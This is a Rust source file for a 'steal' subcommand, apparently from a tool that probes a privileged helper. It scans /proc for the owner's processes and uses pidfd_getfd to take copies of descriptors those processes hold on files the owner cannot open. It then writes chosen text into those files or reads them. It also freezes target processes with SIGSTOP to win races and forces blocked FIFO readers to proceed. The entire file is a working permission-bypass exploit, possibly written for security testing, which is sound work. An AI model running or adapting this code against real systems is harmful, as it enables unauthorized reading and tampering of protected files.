//! `steal`: every descriptor one of the owner's own processes holds on a regular file the
//! owner could not open itself is something the helper handed over. Take a copy of it with
//! `pidfd_getfd` (allowed: same uid, dumpable, no Yama here) and use it: append TEXT, or read
//! the start of the file. One JSON line per descriptor taken. With `--loop` it keeps looking
//! (until `--while FILE` is gone or `--timeout`), and stops each matching process (SIGSTOP)
//! while it looks, so a short-lived one cannot exit first. `--release-fifos` then opens, for
//! writing, every FIFO named on such a process's command line (and closes it at once): a
//! process held up reading a FIFO the owner put in its way goes on, with nothing to read.

use rustix::fs::{Mode, OFlags};
use rustix::process::{PidfdFlags, PidfdGetfdFlags};
use serde_json::{json, Value};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::MetadataExt;
use std::path::Path;

pub struct Opts {
    pub write: Option<String>,
    pub read: bool,
    pub only_comm: Option<String>,
    pub repeat: bool,
    pub release_fifos: bool,
    pub stop: crate::Stop,
}

pub fn parse(p: &mut lexopt::Parser) -> Result<Opts, lexopt::Error> {
    use lexopt::prelude::*;
    let mut o = Opts {
        write: None,
        read: false,
        only_comm: None,
        repeat: false,
        release_fifos: false,
        stop: crate::Stop::default(),
    };
    while let Some(arg) = p.next()? {
        match arg {
            Long("write") => o.write = Some(p.value()?.string()?),
            Long("read") => o.read = true,
            Long("only-comm") => o.only_comm = Some(p.value()?.string()?),
            Long("loop") => o.repeat = true,
            Long("release-fifos") => o.release_fifos = true,
            Long("while") => o.stop.while_file = Some(p.value()?.into()),
            Long("timeout") => {
                o.stop.deadline = Some(std::time::Instant::now() + crate::secs(p.value()?)?)
            }
            _ => return Err(arg.unexpected()),
        }
    }
    if o.repeat && o.stop.deadline.is_none() && o.stop.while_file.is_none() {
        return Err("steal --loop needs --while FILE or --timeout SECS".into());
    }
    Ok(o)
}

/// True when we could open `path` ourselves for reading or writing.
fn openable(path: &Path) -> bool {
    [OFlags::RDONLY, OFlags::WRONLY].iter().any(|f| {
        rustix::fs::open(
            path,
            *f | OFlags::CLOEXEC | OFlags::NONBLOCK | OFlags::NOCTTY,
            Mode::empty(),
        )
        .is_ok()
    })
}

pub fn main(o: Opts) -> Result<(), lexopt::Error> {
    loop {
        for line in run(&o) {
            println!("{line}");
        }
        if !o.repeat || o.stop.now() {
            return Ok(());
        }
        // A scan of /proc costs a few ms of CPU: one per ms at most.
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
}

fn signal(pid: i32, sig: rustix::process::Signal) {
    if let Some(p) = rustix::process::Pid::from_raw(pid) {
        let _ = rustix::process::kill_process(p, sig);
    }
}

/// Takes and uses every such descriptor; one JSON value per descriptor.
pub fn run(o: &Opts) -> Vec<Value> {
    let mut out = Vec::new();
    let me = rustix::process::getuid().as_raw();
    let self_pid = std::process::id();
    let Ok(procs) = std::fs::read_dir("/proc") else {
        return out;
    };
    for e in procs.filter_map(Result::ok) {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        if pid as u32 == self_pid || e.metadata().map(|m| m.uid()).ok() != Some(me) {
            continue;
        }
        let comm = std::fs::read_to_string(e.path().join("comm")).unwrap_or_default();
        if o.only_comm
            .as_ref()
            .is_some_and(|c| !comm.starts_with(c.as_str()))
        {
            continue;
        }
        // A matching process is held still while its descriptors are looked at.
        let hold = o.repeat && o.only_comm.is_some();
        if hold {
            signal(pid, rustix::process::Signal::STOP);
        }
        let taken = take(o, pid, &comm, &e.path(), me);
        if hold {
            signal(pid, rustix::process::Signal::CONT);
        }
        if o.release_fifos {
            release_fifos(&e.path());
        }
        out.extend(taken);
    }
    out
}

/// Opens for writing, and closes, each FIFO the process's command line names: a reader
/// blocked opening it goes on and reads end-of-file.
fn release_fifos(dir: &Path) {
    let raw = std::fs::read(dir.join("cmdline")).unwrap_or_default();
    for arg in raw.split(|b| *b == 0).filter(|a| a.first() == Some(&b'/')) {
        let p = Path::new(std::ffi::OsStr::from_bytes(arg));
        let fifo = rustix::fs::lstat(p)
            .is_ok_and(|st| rustix::fs::FileType::from_raw_mode(st.st_mode).is_fifo());
        if fifo {
            let _ = rustix::fs::open(
                p,
                OFlags::WRONLY | OFlags::NONBLOCK | OFlags::CLOEXEC,
                Mode::empty(),
            );
        }
    }
}

/// The descriptors of one process worth taking, taken and used.
fn take(o: &Opts, pid: i32, comm: &str, dir: &Path, me: u32) -> Vec<Value> {
    let mut out = Vec::new();
    {
        let Ok(fds) = std::fs::read_dir(dir.join("fd")) else {
            return out;
        };
        for f in fds.filter_map(Result::ok) {
            let Ok(n) = f.file_name().to_string_lossy().parse::<i32>() else {
                continue;
            };
            let Ok(target) = std::fs::read_link(f.path()) else {
                continue;
            };
            // A regular file someone else owns, which we could not open by its path.
            let theirs = std::fs::metadata(f.path()).is_ok_and(|m| m.is_file() && m.uid() != me);
            if !theirs || !target.is_absolute() || openable(&target) {
                continue;
            }
            let Some(p) = rustix::process::Pid::from_raw(pid) else {
                continue;
            };
            let got = rustix::process::pidfd_open(p, PidfdFlags::empty())
                .and_then(|pfd| rustix::process::pidfd_getfd(&pfd, n, PidfdGetfdFlags::empty()));
            let mut line = json!({"pid": pid, "comm": comm.trim(), "fd": n, "path": target});
            match got {
                Err(err) => line["error"] = err.to_string().into(),
                Ok(fd) => {
                    if let Some(t) = &o.write {
                        line["wrote"] = rustix::io::write(&fd, t.as_bytes()).is_ok().into();
                    }
                    if o.read {
                        let mut buf = vec![0u8; 4096];
                        let n = rustix::io::pread(&fd, &mut buf, 0).unwrap_or(0);
                        line["read"] = String::from_utf8_lossy(&buf[..n]).into_owned().into();
                    }
                }
            }
            out.push(line);
        }
    }
    out
}
